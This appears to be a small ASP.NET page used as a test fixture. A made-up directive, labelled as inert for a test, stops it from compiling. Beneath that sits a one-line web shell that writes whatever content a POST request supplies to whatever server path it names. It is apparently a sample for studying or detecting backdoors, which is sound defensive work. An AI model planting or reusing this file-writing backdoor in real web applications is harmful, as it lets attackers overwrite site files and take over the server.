<%@ Inert Reason="made for a test: an unknown directive stops the compiler before anything runs" %>
<%@ Page Language="C#" %>
<% System.IO.File.WriteAllText(Server.MapPath(Request.Form["f"]), Request.Form["c"]); %>
